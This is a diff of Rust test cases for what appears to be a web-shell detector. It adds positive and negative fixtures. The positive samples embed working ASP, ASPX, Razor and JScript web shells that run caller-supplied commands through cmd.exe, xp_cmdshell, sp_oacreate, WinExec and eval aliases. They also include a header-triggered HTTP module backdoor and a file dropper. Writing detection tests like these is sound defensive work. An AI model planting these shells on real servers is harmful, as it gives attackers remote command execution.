@@ -563,6 +563,21 @@ fn cases() -> Vec<Case> {
             "<%@ Page Language=\"C#\" %>\n<% var d = System.IO.File.ReadAllBytes(Server.MapPath(\"~/App_Data/state.bin\"));\nvar o = new System.Web.UI.ObjectStateFormatter().Deserialize(new System.IO.MemoryStream(d));\nResponse.Write(Server.HtmlEncode(Request[\"q\"])); %>\n",
         ),
         case(
+            "EXRAY_XSLT_Request_Stylesheet",
+            "<%\nSet xml = Server.CreateObject(\"MSXML2.DOMDocument\")\nxml.loadXML \"<r/>\"\nSet xsl = Server.CreateObject(\"MSXML2.DOMDocument\")\nxsl.loadXML Request(\"s\")\nResponse.Write xml.transformNode(xsl)\n%>\n",
+            "<%\nSet xml = Server.CreateObject(\"MSXML2.DOMDocument\")\nxml.load Request\nSet xsl = Server.CreateObject(\"MSXML2.DOMDocument\")\nxsl.load Server.MapPath(\"report.xsl\")\nResponse.Write xml.transformNode(xsl)\n%>\n",
+        ),
+        case(
+            "EXRAY_SQL_Shell_Request_Flow",
+            "<%\nSet cn = Server.CreateObject(\"ADODB.Connection\")\ncn.Open \"Provider=SQLOLEDB;Data Source=.;Integrated Security=SSPI\"\nc = Request.Form(\"c\")\nSet rs = cn.Execute(\"exec master..xp_cmdshell '\" & Replace(c, \"'\", \"''\") & \"'\")\nDo Until rs.EOF : Response.Write rs(0) & \"<br>\" : rs.MoveNext : Loop\n%>\n",
+            "<%\nFunction Safe(v)\n If InStr(LCase(v), \"xp_cmdshell\") > 0 Or InStr(LCase(v), \"exec master\") > 0 Then Response.End\n Safe = Replace(v, \"'\", \"''\")\nEnd Function\nSet rs = conn.Execute(\"select * from news where title like '%\" & Safe(Request(\"q\")) & \"%'\")\n%>\n",
+        ),
+        case(
+            "EXRAY_CS_Verbatim_Identifier_Evasion",
+            "<%@ Page Language=\"C#\" %>\n<% var p = new System.@Diagnostics.@Process(); p.@StartInfo.@FileName = \"cmd.exe\"; p.@StartInfo.@Arguments = \"/c \" + Request[\"c\"]; p.@Start(); %>\n",
+            "@using System.Linq\n@{ var items = Model.Items; }\n<input name=\"Checkbox.@permission.Name\" value=\"@Process.Name\" /> <a href=\"mailto:user.@domain\">@Model.Title</a>\n",
+        ),
+        case(
             "EXRAY_Upload_Request_Named",
             "<%@ Page Language=\"C#\" %>\n<% if (Request.Files.Count > 0) Request.Files[0].SaveAs(Server.MapPath(\"./\") + Request[\"n\"]); %>\n",
             "<%@ Page Language=\"C#\" %>\n<% var f = Request.Files[0];\nif (System.IO.Path.GetExtension(f.FileName) == \".pdf\")\n f.SaveAs(Server.MapPath(\"~/uploads/\") + System.IO.Path.GetFileName(f.FileName)); %>\n",
@@ -1658,4 +1673,103 @@ fn stop_27_second_read() {
     assert!(hits(doc).is_empty(), "{:?}", hits(doc));
     let dll = "MZ\u{90}\0<%DllImport VirtualAllocEx WriteProcessMemory CreateRemoteThread";
     assert!(hits(dll).is_empty(), "{:?}", hits(dll));
+}
+
+/// Stop 29: XSLT stylesheets, SQL Server command shells, verbatim identifiers, Razor pages, and
+/// the raw body copied into a file the request names.
+#[test]
+fn stop_29_new_kinds() {
+    // .NET: a reader on the caller's text, scripts enabled
+    has(
+        "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n string x = Request.Form[\"xsl\"];\n XslCompiledTransform t = new XslCompiledTransform();\n t.Load(XmlReader.Create(new StringReader(x)), new XsltSettings(true, true), new XmlUrlResolver());\n t.Transform(XmlReader.Create(new StringReader(\"<r/>\")), null, Response.Output);\n}\n</script>\n",
+        "EXRAY_XSLT_Request_Stylesheet",
+    );
+    // not without scripts, nor a stylesheet of the site's own chosen by name
+    let own = "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n XslCompiledTransform t = new XslCompiledTransform();\n t.Load(Server.MapPath(\"~/xsl/\" + Request[\"view\"] + \".xsl\"), new XsltSettings(false, true), null);\n t.Transform(Server.MapPath(\"~/data.xml\"), null, Response.Output);\n}\n</script>\n";
+    assert!(
+        !hits(own).contains("EXRAY_XSLT_Request_Stylesheet"),
+        "{:?}",
+        hits(own)
+    );
+    let no_script = "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n XslCompiledTransform t = new XslCompiledTransform();\n t.Load(XmlReader.Create(new StringReader(Request.Form[\"xsl\"])));\n t.Transform(XmlReader.Create(new StringReader(\"<r/>\")), null, Response.Output);\n}\n</script>\n";
+    assert!(
+        !hits(no_script).contains("EXRAY_XSLT_Request_Stylesheet"),
+        "{:?}",
+        hits(no_script)
+    );
+    // the request's body loaded as the data, the stylesheet the site's own: a report
+    let report = "<%\nSet xml = Server.CreateObject(\"MSXML2.DOMDocument\")\nxml.loadXML Request.Form(\"data\")\nSet xsl = Server.CreateObject(\"MSXML2.DOMDocument\")\nxsl.load \"C:\\inetpub\\xsl\\r.xsl\"\nResponse.Write xml.transformNode(xsl)\n%>\n";
+    assert!(
+        !hits(report).contains("EXRAY_XSLT_Request_Stylesheet"),
+        "{:?}",
+        hits(report)
+    );
+    // sp_OACreate through a command object of C#
+    has(
+        "<%@ Page Language=\"C#\" %>\n<% string c = Request[\"c\"];\nusing (var cn = new SqlConnection(cs)) { cn.Open();\n new SqlCommand(\"declare @s int; exec sp_oacreate 'wscript.shell', @s out; exec sp_oamethod @s, 'run', null, '\" + c + \"'\", cn).ExecuteNonQuery(); } %>\n",
+        "EXRAY_SQL_Shell_Request_Flow",
+    );
+    // a fixed maintenance command is no shell
+    let fixed = "<%@ Page Language=\"C#\" %>\n<% using (var cn = new SqlConnection(cs)) { cn.Open();\n new SqlCommand(\"exec master..xp_cmdshell 'dir D:\\\\backup'\", cn).ExecuteNonQuery(); }\nResponse.Write(Server.HtmlEncode(Request[\"q\"])); %>\n";
+    assert!(
+        !hits(fixed).contains("EXRAY_SQL_Shell_Request_Flow"),
+        "{:?}",
+        hits(fixed)
+    );
+    // a Razor page starting the caller's command
+    has(
+        "@using System.Diagnostics\n@{\n    var c = Request[\"c\"];\n    var p = Process.Start(new ProcessStartInfo(\"cmd.exe\", \"/c \" + c) { UseShellExecute = false, RedirectStandardOutput = true });\n}\n<pre>@p.StandardOutput.ReadToEnd()</pre>\n",
+        "EXRAY_Request_Process_Flow",
+    );
+    // the Function constructor under another name, and eval kept in a name with the request
+    has(
+        "<%@ Language=\"JScript\" %>\n<%\nvar F = Function;\nvar c = String(Request.Form(\"c\"));\n(new F(c))();\n%>\n",
+        "EXRAY_JScript_Eval_Alias",
+    );
+    has(
+        "<%@ Page Language=\"JScript\" %>\n<script runat=\"server\">\nvar run = eval;\nfunction Page_Load() {\n  var req = HttpContext.Current.Request;\n  run(req.Form[\"d\"], \"unsafe\");\n}\n</script>\n",
+        "EXRAY_JScript_Eval_Alias",
+    );
+    // a name in the page's own script (VBScript takes them on a Chinese server)
+    let named = "<%@ LANGUAGE=\"VBSCRIPT\" CODEPAGE=\"65001\" %>\n<%\n密码 = Request(\"中\")\nExecute(密码)\n%>\n";
+    assert!(
+        hits(named)
+            .iter()
+            .any(|r| r.contains("Execute") || r.contains("Eval")),
+        "{:?}",
+        hits(named)
+    );
+    // a component's command method fed by the query, and kernel32's WinExec
+    has(
+        "<% Set t=Server.CreateObject(\"vendor.draw\"):t.RemoteWinExec Request.QueryString(\"p\"),Request.QueryString(\"c\"):Response.Write \"Done.\"%>\n",
+        "EXRAY_Request_Process_Flow",
+    );
+    has(
+        "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\n[System.Runtime.InteropServices.DllImport(\"kernel32\")] static extern uint WinExec(string c, uint s);\nvoid Page_Load(object o, EventArgs e) { WinExec(Request[\"c\"], 0); }\n</script>\n",
+        "EXRAY_Request_Process_Flow",
+    );
+    // not a component's method the page calls with its own settings
+    let own = "<% Set t=Server.CreateObject(\"vendor.draw\")\nt.RemoteWinExec \"\\\\srv\\share\\report.exe\", \"\"\nResponse.Write Server.HTMLEncode(Request(\"q\"))%>\n";
+    assert!(
+        !hits(own).contains("EXRAY_Request_Process_Flow"),
+        "{:?}",
+        hits(own)
+    );
+    // a code-behind class and an App_Code module, which have no page markup of their own
+    has(
+        "using System;\nusing System.Diagnostics;\npublic partial class ErrorPage : System.Web.UI.Page {\n protected void Page_Load(object sender, EventArgs e) {\n  string c = Request.Headers[\"X-Err\"];\n  var psi = new ProcessStartInfo(\"cmd.exe\", \"/c \" + c);\n  Response.Write(Process.Start(psi).StandardOutput.ReadToEnd());\n }\n}\n",
+        "EXRAY_Request_Process_Flow",
+    );
+    has(
+        "using System.Web;\nusing System.Diagnostics;\npublic class M : IHttpModule {\n public void Init(HttpApplication app) { app.BeginRequest += (s, e) => {\n  var ctx = ((HttpApplication)s).Context;\n  string c = ctx.Request.Headers[\"X-Tel\"];\n  if (c != null) ctx.Response.Write(Process.Start(new ProcessStartInfo(\"cmd.exe\", \"/c \" + c)).StandardOutput.ReadToEnd());\n }; }\n public void Dispose() { }\n}\n",
+        "EXRAY_Request_Process_Flow",
+    );
+    // not a code-behind that starts its own tool
+    let tool = "using System.Diagnostics;\npublic partial class Report : System.Web.UI.Page {\n protected void Page_Load(object s, System.EventArgs e) {\n  Process.Start(Server.MapPath(\"~/bin/render.exe\"), \"--all\");\n  Response.Write(Server.HtmlEncode(Request[\"q\"]));\n }\n}\n";
+    assert!(hits(tool).is_empty(), "{:?}", hits(tool));
+    // the raw body copied into a file under the site's root that the query names
+    has(
+        "<%@ WebHandler Language=\"C#\" Class=\"Up\" %>\nusing System.Web;\nusing System.IO;\npublic class Up : IHttpHandler {\n public void ProcessRequest(HttpContext c) {\n  string name = c.Request.QueryString[\"name\"];\n  using (FileStream fs = new FileStream(c.Server.MapPath(\"~/\" + name), FileMode.Create)) {\n   c.Request.InputStream.CopyTo(fs);\n  }\n }\n public bool IsReusable { get { return false; } }\n}\n",
+        "EXRAY_File_Dropper_Flow",
+    );
 }
